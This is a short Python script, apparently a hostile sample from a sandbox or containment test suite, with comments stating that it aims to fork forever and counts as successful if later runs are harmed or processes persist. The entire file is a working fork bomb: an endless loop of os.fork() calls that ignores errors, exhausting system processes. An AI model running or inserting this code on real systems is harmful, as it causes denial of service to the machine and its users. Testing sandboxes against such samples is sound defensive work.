# Tries: to fork for ever.
# Success: the next run is harmed, or processes stay.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
